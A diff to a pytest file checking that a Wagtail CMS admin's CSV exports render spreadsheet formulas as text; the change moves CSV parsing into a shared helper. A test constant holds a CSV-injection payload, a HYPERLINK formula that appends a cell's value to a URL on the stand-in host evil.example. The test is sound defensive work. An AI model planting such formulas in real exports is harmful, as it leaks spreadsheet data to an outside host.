@@ -1,7 +1,6 @@
 """Every CSV download of the admin shows a would-be spreadsheet formula as text (cms/wagtail_export_compat.py):
 these tests fail when Wagtail 7.4 writes CSV cells another way."""
 
-import csv
 import datetime
 import io
 
@@ -12,6 +11,7 @@ from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
 from cms.models import HelpPage
 from cms.wagtail_export_compat import csv_safe
+from tests.csv_downloads import csv_rows
 from tests.factories.cms import HelpPageFactory
 
 pytestmark = pytest.mark.django_db
@@ -21,7 +21,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 def _csv_rows(response):
     assert response["Content-Type"].startswith("text/csv")
-    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    return csv_rows(response)
 
 
 @pytest.mark.parametrize(
